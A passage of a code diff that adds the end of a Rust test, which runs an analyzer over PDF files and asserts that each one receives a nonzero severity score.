+        if path.extension().is_some_and(|ext| ext == "pdf") {
+            let result = analyze_file(&path);
+            assert!(
+                result["severity_score"].as_u64().unwrap_or(0) > 0,
+                "{} was not flagged",
+                path.display()
+            );
+        }
+    }
+}